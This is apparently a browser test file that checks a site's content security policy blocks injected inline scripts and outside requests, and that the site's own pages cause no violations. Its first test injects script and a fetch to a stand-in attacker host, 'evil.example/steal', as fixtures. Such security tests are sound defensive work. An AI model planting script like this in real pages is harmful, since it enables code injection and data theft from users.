"""The content security policy as a real browser enforces it."""

from __future__ import annotations

from tests.browser.conftest import Open


def test_scripts_and_addresses_of_others_are_refused(open_page: Open) -> None:
    page = open_page("/")
    found = page.evaluate(
        """() => new Promise((done) => {
          const seen = []
          document.addEventListener('securitypolicyviolation', (event) => {
            seen.push(event.effectiveDirective)
            if (seen.length === 3) done(seen)
          })
          setTimeout(() => done(seen), 20000)
          const inline = document.createElement('script')
          inline.textContent = 'window.hacked = 1'
          document.body.append(inline)
          const foreign = document.createElement('script')
          foreign.src = 'https://evil.example/x.js'
          document.body.append(foreign)
          fetch('https://evil.example/steal').catch(() => {})
        })"""
    )
    assert sorted(found) == ["connect-src", "script-src-elem", "script-src-elem"]
    assert page.evaluate("window.hacked") is None


def test_our_own_pages_violate_nothing(open_page: Open) -> None:
    page = open_page("/")
    said: list[str] = []
    page.on("console", lambda message: said.append(message.text))
    for path in ("/", "/games", "/verify", "/help", "/account"):
        page.goto(page.url.split("/", 3)[0] + "//" + page.url.split("/", 3)[2] + path)
        page.wait_for_selector("h1")
    assert not [text for text in said if "Content Security Policy" in text]
